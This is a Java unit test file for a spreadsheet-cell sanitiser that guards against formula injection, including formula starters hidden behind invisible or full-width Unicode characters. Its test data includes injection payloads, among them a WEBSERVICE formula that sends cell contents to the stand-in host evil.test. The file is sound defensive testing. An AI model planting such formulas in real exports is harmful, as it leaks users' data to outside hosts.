package io.venn.service.view;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SpreadsheetSafeTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "=HYPERLINK(\"http://evil.test\",\"click\") | '=HYPERLINK(\"http://evil.test\",\"click\")",
        "=WEBSERVICE(\"http://evil.test/?\"&A1)     | '=WEBSERVICE(\"http://evil.test/?\"&A1)",
        "+49 30 1234567                             | '+49 30 1234567",
        "-2+3                                       | '-2+3",
        "@SUM(A1:A2)                                | '@SUM(A1:A2)",
        "Siemens AG                                 | Siemens AG",
        "acme.co.uk                                 | acme.co.uk",
        "Müller & Söhne GmbH                        | Müller & Söhne GmbH",
      })
  void cell_prefixesFormulaStarters(String raw, String expected) {
    assertThat(SpreadsheetSafe.cell(raw.strip())).isEqualTo(expected.strip());
  }

  @ParameterizedTest
  @CsvSource({"'\t=1+1', '''\t=1+1'", "'\r=1+1', '''\r=1+1'"})
  void cell_prefixesTabAndCarriageReturn(String raw, String expected) {
    assertThat(SpreadsheetSafe.cell(raw)).isEqualTo(expected);
  }

  /** Formula starters hidden behind characters a spreadsheet skips or folds (issue 11). */
  @ParameterizedTest(name = "U+{0}")
  @CsvSource({
    "00A0, '\u00A0=1+1'", // no-break space
    "200B, '\u200B=1+1'", // zero-width space
    "FEFF, '\uFEFF=1+1'", // BOM
    "3000, '\u3000=1+1'", // ideographic space
    "0020, ' =1+1'",
    "FF1D, '\uFF1D1+1'", // full-width equals
    "FF0B, '\uFF0B1+1'", // full-width plus
    "FE63, '\uFE631'", // small hyphen-minus
    "FF20, '\uFF20SUM(A1)'", // full-width commercial at
  })
  void cell_prefixesFormulaBehindInvisibleOrFullWidth(String codePoint, String raw) {
    assertThat(SpreadsheetSafe.cell(raw)).isEqualTo("'" + raw);
  }

  @ParameterizedTest
  @CsvSource({"'\u00A0Siemens AG'", "'\u200BAcme'", "'\uFF21cme'", "'   '"})
  void cell_leavesTextBehindInvisibleCharactersAlone(String raw) {
    assertThat(SpreadsheetSafe.cell(raw)).isEqualTo(raw);
  }

  @org.junit.jupiter.api.Test
  void cell_nullAndEmptyUnchanged() {
    assertThat(SpreadsheetSafe.cell(null)).isNull();
    assertThat(SpreadsheetSafe.cell("")).isEmpty();
  }
}
